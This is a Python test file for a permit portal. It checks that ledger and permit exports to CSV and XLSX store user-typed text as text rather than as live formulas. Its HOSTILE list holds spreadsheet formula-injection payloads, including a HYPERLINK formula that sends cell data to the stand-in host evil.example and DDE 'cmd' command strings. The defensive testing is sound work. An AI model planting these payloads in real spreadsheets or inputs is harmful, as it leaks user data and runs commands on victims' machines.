"""Exports hold what people typed as text: nothing a user writes becomes a live formula (CSV or XLSX)."""

import io
import zipfile
from datetime import timedelta

from openpyxl import load_workbook

from domain.clock import today
from domain.ledgers.entry_rules import EntryInput
from domain.ledgers.service import entries, readings
from domain.permits.files.reading import read_permit_file
from domain.permits.files.writing import records_to_xlsx
from domain.spreadsheets import csv_row
from tests.factories import actor, make_enterprise, make_permit, make_user, permit_record
from tests.ledgers.test_portal_ledgers import china_yesterday, hourly
from tests.portal_helpers import log_in

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def formula_cells(content: bytes) -> list[str]:
    """The formulas stored in a workbook's sheets (an ``<f>`` element is a live formula)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_csv_cells_keep_user_text_as_text_and_numbers_as_numbers():
    row = csv_row([*HOSTILE, "正常文本", -5, 1.5, None])
    assert row[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert row[len(HOSTILE) :] == ["正常文本", -5, 1.5, ""]


async def test_the_ledger_export_writes_typed_text_as_text_cells(client, session):
    enterprise = await make_enterprise(session)
    permit = await make_permit(session, enterprise, decision_date=(today() - timedelta(days=200)).isoformat())
    staff = await make_user(session, "enterprise_staff", enterprise=enterprise)
    await readings.record_readings(
        session, actor(staff), permit_number=permit.number, readings=hourly(china_yesterday(5), [10])
    )
    for index, text in enumerate(HOSTILE):
        await entries.record_entry(
            session,
            actor(staff),
            permit_number=permit.number,
            data=EntryInput(
                kind="production_facility",
                subject=text + "\x01",  # a control character XML cannot hold does not break the export
                period_start=china_yesterday(index),
                data={"status": text, "hours": 24},
            ),
        )
    await log_in(client, staff.username)
    day = china_yesterday(0).strftime("%Y-%m-%d")
    response = await client.get(f"/ledger/{permit.number}/export.xlsx?from={day}&to={day}&lang=en")
    assert response.status_code == 200
    assert formula_cells(response.content) == []
    sheet = load_workbook(io.BytesIO(response.content))["Ledger entries"]
    subjects = sorted(row[1].value for row in sheet.iter_rows(min_row=2))
    assert subjects == sorted(text.strip() for text in HOSTILE)  # the form trims surrounding space
    assert {row[1].data_type for row in sheet.iter_rows(min_row=2)} == {"s"}


async def test_the_permit_workbook_keeps_an_authority_starting_with_equals_as_text(session):
    enterprise = await make_enterprise(session)
    record = permit_record(enterprise, decision_date="2025-06-02")
    record["issuing_authority"] = HOSTILE[0]
    content = records_to_xlsx([record], notes=["=1+1 说明"])
    assert formula_cells(content) == []
    assert read_permit_file("permits.xlsx", content)[0]["issuing_authority"] == HOSTILE[0]
